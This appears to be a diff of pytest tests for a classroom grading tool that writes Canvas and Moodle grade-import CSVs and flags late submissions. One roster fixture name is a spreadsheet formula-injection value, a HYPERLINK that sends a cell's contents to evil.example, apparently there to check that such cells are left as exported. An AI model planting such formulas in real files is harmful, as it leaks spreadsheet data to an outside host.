@@ -31,6 +31,15 @@ def _golden(name: str) -> bytes:
     return (GOLDENS / f"{name}.json").read_bytes()
 
 
+def _own(name: str) -> bytes:
+    """A golden as another learner's own run of the scenario: its last event a nanosecond later, so it
+    is not a copy of a classmate's run (a copied-run is credited to no one; see tests/test_provenance.py)."""
+    doc = json.loads((GOLDENS / f"{name}.json").read_text())
+    head, fraction = doc["events"][-1]["eventTime"].rstrip("Z").split(".")
+    doc["events"][-1]["eventTime"] = f"{head}.{int(fraction.ljust(9, '0')) + 1:09d}Z"
+    return json.dumps(doc).encode()
+
+
 def _zip(files: dict[str, bytes]) -> bytes:
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
@@ -53,7 +62,7 @@ def canvas_download(path: Path) -> Path:
         }),
         # A zip of a zip: the message about the broken file names the inner zip.
         "hoppercarol_1003_50041_all.zip": _zip({"runs.zip": _zip({
-            "live-fix.json": _golden("live-fix"), "broken.json": b'{"events": ['})}),
+            "live-fix.json": _own("live-fix"), "broken.json": b'{"events": ['})}),
         "mullerzoe_1004_50021_crash.json": _golden("sigkill-during-withdraw"),
         "mullerzoe_1004_50022_crash-1.json": b'{"events": [',  # a second upload Canvas renamed; cut short
         "nobody_1099_50031_run.json": _golden("no-failure"),  # a user the export does not list
@@ -101,7 +110,8 @@ def _batch(tmp_path: Path, *args: str) -> tuple[object, dict[str, dict[str, str]
 
 def test_canvas_download_zip_with_the_canvas_export_as_roster(tmp_path: Path):
     download = canvas_download(tmp_path / "submissions.zip")
-    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT))
+    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
+                              "--lms-column", "4711")
     assert list(rows) == ["ada", "bob", "carol", "zoe", "eve"]
     assert {k: r["status"] for k, r in rows.items()} == {
         "ada": "graded", "bob": "graded", "carol": "unreadable-files", "zoe": "unreadable-files", "eve": "missing"}
@@ -189,3 +199,127 @@ def test_a_damaged_download_zip_is_one_line_and_exit_2(tmp_path: Path):
     result = CliRunner().invoke(cli, ["batch", "--submissions", str(bad), "--out", str(tmp_path / "out")])
     assert result.exit_code == 2 and "not a readable zip file" in result.stderr
     assert result.stderr.count("\n") == 1
+
+
+# --- grades back into the LMS, and late work ------------------------------------------------
+
+
+def _cells(path: Path) -> list[list[str]]:
+    with path.open(newline="", encoding="utf-8-sig") as f:
+        return list(csv.reader(f))
+
+
+def test_canvas_import_is_the_export_with_the_assignment_filled(tmp_path: Path):
+    download = canvas_download(tmp_path / "submissions.zip")
+    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
+                              "--lms-column", "failure lab")  # the start of one title is enough
+    written = tmp_path / "out" / "canvas-import.csv"
+    assert str(written) in summary["files"]
+    raw, exported = written.read_bytes(), CANVAS_EXPORT.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw  # as Canvas wrote its export
+    before, after = _cells(CANVAS_EXPORT), _cells(written)
+    column = before[0].index("Failure Lab: break it on purpose (4711)")
+    assert after[0] == before[0] and after[1] == before[1]  # the header and Points Possible row, untouched
+    filled = {r[0]: r[column] for r in after[2:]}
+    assert filled == {"Lovelace, Ada": "30", "Babbage, Bob": rows["bob"]["score"],
+                      "Hopper, Carol": rows["carol"]["score"], "Müller, Zoë": rows["zoe"]["score"],
+                      # nothing handed in, and Canvas's test student: left as exported
+                      '=HYPERLINK("http://evil.example/?x="&A1,"Eve")': "", "Student, Test": ""}
+    for old, new in zip(before, after):  # every other cell as exported
+        assert old[:column] + old[column + 1:] == new[:column] + new[column + 1:]
+    assert summary["warnings"] == [
+        f"{CANVAS_EXPORT} line 8: 'Student, Test' has no 'SIS Login ID': skipped (Canvas's test student has "
+        "none; --id-column picks another column)"]
+    # Late: Canvas's _LATE marker on bob's file; nothing handed in tells nothing.
+    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "yes", "carol": "no", "zoe": "no",
+                                                         "eve": ""}
+
+
+def test_canvas_import_warns_when_the_points_differ(tmp_path: Path):
+    download = canvas_download(tmp_path / "submissions.zip")
+    _, _, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
+                           "--lms-column", "quiz 1")
+    assert any("'Quiz 1 (4700)' is out of 10 in the LMS but the rubric's maximum is 30" in w
+               for w in summary["warnings"])
+
+
+def test_canvas_export_with_several_assignments_and_no_choice_still_grades(tmp_path: Path):
+    download = canvas_download(tmp_path / "submissions.zip")
+    _, rows, summary = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT))
+    assert rows["ada"]["score"] == "30" and not (tmp_path / "out" / "canvas-import.csv").exists()
+    assert any(w.startswith("canvas-import.csv was not written: the Canvas export has 2 assignment columns")
+               for w in summary["warnings"])
+
+
+def test_semicolon_canvas_export_keeps_its_delimiter_and_decimal_comma(tmp_path: Path):
+    export = tmp_path / "export.csv"
+    export.write_text("Student;ID;SIS User ID;SIS Login ID;Section;Lab (12)\n    Points Possible;;;;;30,00\n"
+                      "Lovelace, Ada;1001;S1;ada;A;\n", encoding="utf-8")
+    root = tmp_path / "download"
+    root.mkdir()
+    (root / "lovelaceada_1001_7_crash.json").write_bytes(_golden("sigkill-during-deposit"))
+    _, rows, _ = _batch(tmp_path, "--submissions", str(root), "--roster", str(export))
+    text = (tmp_path / "out" / "canvas-import.csv").read_text(encoding="utf-8")
+    assert text == ("Student;ID;SIS User ID;SIS Login ID;Section;Lab (12)\n    Points Possible;;;;;30,00\n"
+                    f"Lovelace, Ada;1001;S1;ada;A;{rows['ada']['score']}\n")
+
+
+def test_moodle_import_fills_grade(tmp_path: Path):
+    download = moodle_download(tmp_path / "moodle.zip")
+    _, rows, _ = _batch(tmp_path, "--submissions", str(download), "--roster", str(MOODLE_WORKSHEET))
+    before, after = _cells(MOODLE_WORKSHEET), _cells(tmp_path / "out" / "moodle-import.csv")
+    grade = before[0].index("Grade")
+    assert after[0] == before[0]
+    assert {r[1]: r[grade] for r in after[1:]} == {"Ada Lovelace": "30", "Bob Babbage": rows["bob"]["score"],
+                                                  "Carol Hopper": "", "Zoë Müller": rows["zoe"]["score"]}
+    for old, new in zip(before, after):
+        assert old[:grade] + old[grade + 1:] == new[:grade] + new[grade + 1:]
+    assert not (tmp_path / "out" / "moodle-import.csv").read_bytes().startswith(b"\xef\xbb\xbf")
+    # Moodle's Status says "... late" for zoe.
+    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "no", "carol": "", "zoe": "yes"}
+
+
+def test_due_against_gradescope_times_and_run_close_times(tmp_path: Path):
+    download = gradescope_export(tmp_path / "gradescope.zip")
+    # Between ada's submission (3 December) and bob and zoe's (5 December); the goldens closed long before.
+    _, rows, _ = _batch(tmp_path, "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
+                        "--lms-column", "4711", "--due", "2026-12-04T12:00:00-08:00")
+    assert {k: r["late"] for k, r in rows.items()} == {"ada": "no", "bob": "yes", "carol": "", "zoe": "yes",
+                                                         "eve": ""}  # nothing handed in: nothing to be late
+    root = tmp_path / "plain"
+    (root / "ada").mkdir(parents=True)
+    shutil.copy(GOLDENS / "live-fix.json", root / "ada" / "fix.json")
+    (root / "bob").mkdir()
+    shutil.copy(GOLDENS / "insufficient-funds.json", root / "bob" / "broke.json")  # earns nothing
+    out = tmp_path / "early"
+    result = CliRunner().invoke(cli, ["batch", "--submissions", str(root), "--out", str(out), "-q", "--no-replay",
+                                      "--due", "2000-01-01T00:00"])
+    assert result.exit_code == 0, result.output
+    with (out / "gradebook.csv").open(newline="", encoding="utf-8-sig") as f:
+        late = {row["learner"]: row["late"] for row in csv.DictReader(f)}
+    # ada's points came from a run that closed after the due time; bob's run earned nothing.
+    assert late == {"ada": "yes", "bob": "no"}
+    gradebook = json.loads((out / "gradebook.json").read_text())
+    assert {e["learner"]: e["late"] for e in gradebook["learners"]} == {"ada": True, "bob": False}
+
+
+@pytest.mark.parametrize("args, says", [
+    (["--lms-column", "Final Exam"], "--lms-column 'Final Exam' is not an assignment of the Canvas export"),
+    (["--lms-column", ""], "--lms-column '' starts 2 assignment titles of the Canvas export"),
+    (["--due", "next friday"], "--due 'next friday' is not a date and time"),
+])
+def test_bad_lms_options_are_exit_2_before_grading(tmp_path: Path, args: list[str], says: str):
+    download = canvas_download(tmp_path / "submissions.zip")
+    result = CliRunner().invoke(cli, ["batch", "--submissions", str(download), "--roster", str(CANVAS_EXPORT),
+                                      "--out", str(tmp_path / "out"), *args])
+    assert result.exit_code == 2 and says in result.stderr and result.stderr.count("\n") == 1
+    assert not (tmp_path / "out" / "gradebook.csv").exists()
+
+
+def test_lms_column_needs_an_lms_export(tmp_path: Path):
+    (tmp_path / "download" / "ada").mkdir(parents=True)
+    roster = tmp_path / "roster.csv"
+    roster.write_text("learner\nada\n")
+    result = CliRunner().invoke(cli, ["batch", "--submissions", str(tmp_path / "download"), "--roster",
+                                      str(roster), "--lms-column", "Lab", "--out", str(tmp_path / "out")])
+    assert result.exit_code == 2 and "--lms-column names a column of a Canvas gradebook export" in result.stderr
